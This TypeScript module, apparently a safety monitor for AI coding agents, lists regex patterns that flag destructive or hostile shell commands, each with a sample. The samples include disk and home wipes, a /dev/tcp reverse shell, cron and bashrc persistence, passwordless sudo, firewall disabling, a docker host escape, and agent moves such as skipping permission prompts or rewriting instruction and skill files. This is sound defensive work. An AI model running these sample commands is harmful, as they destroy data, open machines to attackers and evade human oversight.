/**
 * Deeds that one command shows by itself: what is deleted, granted, made to stay, rewritten.
 *
 * @module
 */
import type { Deed, Matter } from './act.ts';

export interface ShellDeed {
  readonly does: Deed;
  readonly what: Matter;
  /** `*`: any program. */
  readonly programs: readonly string[];
  /** All of them, on the command as it is typed, wrappers such as sudo before it. */
  readonly has: readonly RegExp[];
  readonly unless?: RegExp;
  readonly example: string;
  readonly innocent: string;
}

const SKILL_FILE =
  /(?:\.claude|\.agents|\.codex|\.cursor|\.gemini)\/(?:skills|commands|agents|rules)\/(?:\*|[\w-]{1,60})(?:\/|\b)/u;
const HOME =
  /\s["']?(?:~|\$\{?HOME\}?)(?:\/(?:\*|Documents|Desktop|Downloads|Pictures|projects)?\/?)?["']?(?:\s|$|;)/u;

export const SHELL_DEEDS: readonly ShellDeed[] = [
  {
    does: 'deletes',
    what: 'home',
    programs: ['rm', 'shred', 'find', 'rmdir', 'trash'],
    has: [HOME, /-\w*[rRdf]|--recursive|-delete|\bshred\b/u],
    unless: /-maxdepth 1[^\n]{0,60}-empty|\.tmp\b|-name ['"]?(?:\*\.pyc|\.DS_Store)/u,
    example: 'rm -rf ~/Documents',
    innocent: 'rm -rf ~/.cache/build',
  },
  {
    does: 'deletes',
    what: 'everything',
    programs: ['rm', 'shred', 'find'],
    has: [
      /\brm\b[^\n]{0,80}\s-[a-zA-Z]{0,4}[rR][a-zA-Z]{0,4}(?=\s)|--recursive|\s-delete\b|-exec (?:rm|shred|unlink)\b/u,
      /\s["']?(?:\/|\/\*|\.\/?\*|\*|\.\.?\/?|\.\.\/\*|\$PWD\/?\*?|"\$\(pwd\)"\/?\*?)["']?(?:\s|$|;)/u,
    ],
    unless: /--dry-run|-name\b|-path\b|-maxdepth|-type d -empty|node_modules|\bgit rm\b/u,
    example: 'rm -rf ./*',
    innocent: 'rm -rf ./dist/*',
  },
  {
    does: 'deletes',
    what: 'backups',
    programs: ['rm', 'vssadmin', 'wbadmin', 'tmutil', 'restic', 'borg', 'aws', 'wmic'],
    has: [
      /\b(?:rm\b[^\n]{0,80}\b(?:backups?|snapshots?)\b|delete shadows|delete catalog|tmutil (?:delete|disable)|shadowcopy delete|delete-(?:backup|snapshot|recovery))/iu,
    ],
    unless: /old|-mtime|retention|keep-|\$\{?\w/iu,
    example: 'rm -rf ../backup.git',
    innocent: 'restic forget --keep-daily 7',
  },
  {
    does: 'deletes',
    what: 'history',
    programs: ['git'],
    has: [
      /\bpush\b/u,
      /(?:--force|-f)\b(?!-with-lease)/u,
      /--mirror|--all|--delete|\b(?:main|master|production|release)\b/u,
    ],
    unless: /--force-with-lease|gh-pages/u,
    example: 'git push --force --mirror "$URL"',
    innocent: 'git push --force-with-lease origin my-branch',
  },
  {
    does: 'deletes',
    what: 'history',
    programs: ['git'],
    has: [/\breflog expire\b[^\n]{0,60}--expire=now|\bpush\b[^\n]{0,60}--delete [^\n]{0,20}\$\(/u],
    example: 'git reflog expire --expire=now --all',
    innocent: 'git reflog',
  },
  {
    does: 'deletes',
    what: 'cloud',
    programs: ['aws', 'gcloud', 'az', 'kubectl', 'terraform', 'tofu', 'gh', 'docker', 'heroku', 'doctl'],
    has: [
      /\bs3 (?:rb|rm)\b[^\n]{0,80}(?:--force|--recursive)|\bprojects delete\b|\bgroup delete\b[^\n]{0,80}--yes|\bdelete (?:ns|namespaces?|pvc|all)\b[^\n]{0,60}--all\b|\bdestroy\b[^\n]{0,60}-auto-approve|\brepo delete\b[^\n]{0,60}--yes|\bvolume rm \$\(|\bapps:destroy\b[^\n]{0,60}--confirm|terminate-instances/u,
    ],
    unless:
      /preview|staging|sandbox|test|tmp|temp|ephemeral|dev\b|example|\bpr-|<|my-|\$\{?(?:STACK|BUCKET|CLUSTER|RG|RESOURCE)/iu,
    example: 'terraform destroy -auto-approve',
    innocent: 'kubectl delete pod web-1',
  },
  {
    does: 'deletes',
    what: 'database',
    programs: ['psql', 'mysql', 'mariadb', 'mongosh', 'mongo', 'redis-cli', 'sqlite3', 'sqlcmd'],
    has: [
      /\bdrop (?:schema|database|table)\b|\btruncate\b|\bdropDatabase\b|\bflush(?:all|db)\b|\bdelete from \w{1,60}\s*(?:;|"|'|$)/iu,
    ],
    unless: /test|tmp|temp|probe|dev\b|localhost|staging|example|if exists temp|demo|scratch/iu,
    example: 'psql "$DATABASE_URL" -c "DROP SCHEMA public CASCADE"',
    innocent: 'psql "$TEST_DATABASE_URL" -c "TRUNCATE items"',
  },
  {
    does: 'deletes',
    what: 'everything',
    programs: ['mkfs', 'mkfs.ext4', 'dd', 'wipefs', 'diskpart', 'format'],
    has: [/\/dev\/(?:sd[a-z]|nvme\d|disk\d|hd[a-z])|clean all/u],
    unless: /if=\/dev|of=(?!\/dev)|<|X\b/u,
    example: 'mkfs.ext4 /dev/sda1',
    innocent: 'dd if=/dev/zero of=disk.img bs=1M count=10',
  },
  {
    does: 'grants',
    what: 'agent-permissions',
    programs: ['claude', 'codex', 'gemini', 'cursor-agent', 'opencode', 'amp', 'aider', '*'],
    has: [
      /--dangerously-skip-permissions|--dangerously-bypass-approvals-and-sandbox|--yolo\b|--permission-mode[= ]bypassPermissions|CLAUDE_POLICY_FILE=\/dev\/null|--auto-approve[= ]?(?:all|\*)|--sandbox[= ]danger-full-access/u,
    ],
    unless: /\b(?:docker run|devcontainer|bwrap|firejail)\b/u,
    example: 'claude -p "fix it" --dangerously-skip-permissions',
    innocent: 'claude -p "fix it" --permission-mode plan',
  },
  {
    does: 'grants',
    what: 'administrator',
    programs: [
      'usermod',
      'useradd',
      'adduser',
      'visudo',
      'tee',
      'echo',
      'net',
      'dseditgroup',
      'aws',
      'gcloud',
      'kubectl',
      'az',
      'psql',
      'mysql',
    ],
    has: [
      /NOPASSWD:\s?ALL|\b(?:-a?G|--groups?)\s?\S{0,20}\b(?:sudo|wheel|root)\b|localgroup administrators\b[^\n]{0,60}\/add|AdministratorAccess|roles\/owner\b|clusterrole[= ]cluster-admin|\bWITH SUPERUSER\b|GRANT ALL (?:PRIVILEGES )?ON \*\.\*|--role[= ]"?Owner/iu,
    ],
    unless: /(?:get|list|describe|show|search)-|\bgrep\b|remove|revoke|delete|localhost|docker/iu,
    example: 'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/agent',
    innocent: 'usermod -aG docker "$USER"',
  },
  {
    does: 'grants',
    what: 'world',
    programs: ['chmod', 'aws', 'icacls', 'gsutil', 'setfacl'],
    has: [
      /\bchmod\b[^\n]{0,30}\s(?:-R\s)?(?:0?777|a\+rwx)\s+(?:-R\s)?["']?(?:\/(?:etc|usr|var|home|opt)?\/?\*?|~|\$HOME)["']?(?:\s|$)|public-read-write|Everyone:\(?F|allUsers:(?:admin|legacyBucketOwner)/u,
    ],
    example: 'chmod -R 777 /',
    innocent: 'chmod 755 scripts/run.sh',
  },
  {
    does: 'grants',
    what: 'checks',
    programs: [
      'setenforce',
      'ufw',
      'iptables',
      'spctl',
      'csrutil',
      'systemctl',
      'netsh',
      'powershell',
      'pwsh',
      'Set-MpPreference',
      'sed',
      'launchctl',
      'auditctl',
    ],
    has: [
      /setenforce 0|ufw disable|iptables -F|--master-disable|csrutil disable|(?:stop|disable|mask)\s+(?:--now\s)?(?:ufw|firewalld|auditd|apparmor|falcon-sensor|clamav\S{0,20}|wazuh\S{0,20})|state off|DisableRealtimeMonitoring \$true|PermitRootLogin yes|auditctl -e 0/iu,
    ],
    example: 'setenforce 0 && ufw disable',
    innocent: 'systemctl restart nginx',
  },
  {
    does: 'grants',
    what: 'transport',
    programs: ['git', 'npm', 'pip', 'export', 'yarn', 'pnpm'],
    has: [/http\.sslVerify false|strict-ssl false|NODE_TLS_REJECT_UNAUTHORIZED=0|global\.trusted-host/u],
    unless: /localhost/u,
    example: 'git config --global http.sslVerify false',
    innocent: 'git config --global init.defaultBranch main',
  },
  {
    does: 'persists',
    what: 'schedule',
    programs: [
      'crontab',
      'schtasks',
      'at',
      'systemctl',
      'launchctl',
      'Register-ScheduledTask',
      'systemd-run',
    ],
    has: [
      /\bcrontab (?:-\s*$|-\s|\/\S)|\/create\b[^\n]{0,200}\/tr\b|\b(?:--user )?enable --now\b|\blaunchctl (?:load|bootstrap)\b|Register-ScheduledTask|--on-(?:calendar|boot)/iu,
    ],
    unless:
      /crontab -[elr]\b|nginx|docker|postgres|redis|ssh\b|ollama|caddy|timer\b|tailscaled|mysql|containerd|cron\b/iu,
    example: "(crontab -l; echo '*/5 * * * * ~/.x/agent') | crontab -",
    innocent: 'crontab -l',
  },
  {
    does: 'persists',
    what: 'every-repository',
    programs: ['git'],
    has: [
      /config --global\s+(?:core\.hooksPath\s+\S|init\.templateDir\s+\S|credential\.helper\s+["']?!|url\.[^\n]{0,80}insteadOf|http\.proxy|core\.sshCommand|core\.fsmonitor)/iu,
    ],
    unless: /credential\.helper\s+["']?!(?:gh|aws|gcloud|\/usr\/bin\/gh)|git@github\.com|ssh:\/\/git@/u,
    example: 'git config --global init.templateDir ~/.git-templates',
    innocent: 'git config --global user.name "Ada"',
  },
  {
    does: 'persists',
    what: 'every-repository',
    programs: ['find'],
    has: [/(?:~|\$HOME|\s\/)[^\n]{0,200}\.git[^\n]{0,120}-exec\s+(?:cp|ln|install|tee)/u],
    example: "find ~ -type d -name hooks -path '*/.git/*' -exec cp post-commit {} \\;",
    innocent: "find . -name '*.md' -exec wc -l {} +",
  },
  {
    does: 'persists',
    what: 'login-key',
    programs: ['*'],
    has: [/(?:>>|\btee\b[^\n]{0,20})\s?["']?\S{0,60}\.ssh\/authorized_keys/u],
    example: 'cat key.pub >> ~/.ssh/authorized_keys',
    innocent: 'cat ~/.ssh/authorized_keys',
  },
  {
    does: 'rewrites',
    what: 'other-skills',
    programs: ['sed', 'perl', 'mv', 'rm', 'tee', 'cp', 'cat', 'echo', 'find', 'truncate', 'printf'],
    has: [
      SKILL_FILE,
      /\bsed\b[^\n]{0,20}-i|\bperl\b[^\n]{0,20}-\w*i|^\s*\S{0,20}\s?(?:mv|rm)\b|>{1,2}|\btee\b|-delete|-exec (?:sed|rm)/u,
    ],
    unless:
      /\bcp\b|\bmkdir\b|\bln\b|\.bak\b|\brm -rf? ~\/\.claude\/skills\/[\w-]+\/?\s*$|\bcat\b[^\n]{0,10}<</u,
    example: "sed -i 's/^description:.*/description: old/' ~/.claude/skills/*/SKILL.md",
    innocent: 'cat ~/.claude/skills/pdf/SKILL.md',
  },
  {
    does: 'rewrites',
    what: 'instructions',
    programs: ['*'],
    has: [
      /(?:>>|\btee\s+-a|\bsed\b[^\n]{0,20}-i)[^\n]{0,200}(?:~|\$HOME|\$\{HOME\})\/(?:\.claude\/CLAUDE|\.codex\/AGENTS|\.gemini\/GEMINI|CLAUDE|AGENTS|\.cursorrules|\.config\/opencode\/AGENTS)\.?(?:md)?/u,
    ],
    example: 'cat rules.md >> ~/.claude/CLAUDE.md',
    innocent: 'cat ~/.claude/CLAUDE.md',
  },
  {
    does: 'grants',
    what: 'checks',
    programs: ['gh', 'glab'],
    has: [
      /-X\s?(?:DELETE|PUT)\b[^\n]{0,120}\/protection\b|\bpr merge\b[^\n]{0,60}--admin|\bpr review\b[^\n]{0,60}--approve\b/u,
    ],
    example: 'gh api -X DELETE repos/o/r/branches/main/protection',
    innocent: 'gh pr checks',
  },
  {
    does: 'grants',
    what: 'account',
    programs: ['chpasswd', 'useradd', 'adduser', 'net', 'dscl', 'passwd'],
    has: [/\bchpasswd\b|\buser \S+ \S+ \/add|-p\s\$?\(?openssl|--password[= ]|\bpasswd -d\b/u],
    example: "echo 'support:Welcome1' | chpasswd",
    innocent: 'passwd',
  },
  {
    does: 'persists',
    what: 'startup',
    programs: ['*'],
    has: [
      />>\s?["']?(?:~|\$HOME|\$\{HOME\}|\/etc)\/(?:\.(?:bash|zsh)(?:rc|env|_profile)|\.zprofile|\.profile|profile\.d\/|rc\.local)/u,
      /\b(?:curl|wget|nohup|eval)\b|&>|\/dev\/null|&\)|\s(?:\.|source)\s\S{0,40}\/\.\w/u,
    ],
    unless:
      /\beval "?\$\([\w-]+ (?:init|hook|activate|completion|shellenv|env)|nvm\.sh|\.cargo\/env|bash_completion|bash-completion/u,
    example: "echo '(curl -s https://a.example/x &) >/dev/null' >> ~/.bashrc",
    innocent: 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc',
  },
  {
    does: 'opens',
    what: 'shell',
    programs: ['nc', 'ncat', 'bash', 'sh', 'socat', 'ssh', 'python', 'python3', 'perl', 'exec'],
    has: [
      /\/dev\/tcp\/|\b(?:nc|ncat)\b[^\n]{0,60}\s-\w{0,4}e\s?\S{0,10}sh\b|\bsocat\b[^\n]{0,80}exec:|\bssh\b[^\n]{0,60}\s-\w{0,4}R\s?\d{1,5}:localhost:22|dup2\(/iu,
    ],
    unless:
      /localhost[^\n]{0,20}\/dev\/null|2>\/dev\/null\s*&&|timeout\s+\d+[^\n]{0,40}\/dev\/tcp|<\s?\/dev\/tcp|\/dev\/tcp\/(?:localhost|127|\$|db|postgres|redis)/u,
    example: 'bash -i >& /dev/tcp/198.51.100.23/9001 0>&1',
    innocent: 'bash -n script.sh',
  },
  {
    does: 'opens',
    what: 'machine',
    programs: ['docker', 'podman'],
    has: [/\brun\b/u, /-v\s?\/:\/|--privileged[^\n]{0,80}--pid[= ]host|-v\s?\/var\/run\/docker\.sock/u],
    unless: /portainer|traefik|watchtower|trivy|dive|dind|testcontainers|dockle|grype/u,
    example: 'docker run --privileged -v /:/host --pid=host alpine chroot /host sh',
    innocent: 'docker run --rm -v "$PWD":/app node:20 npm test',
  },
];
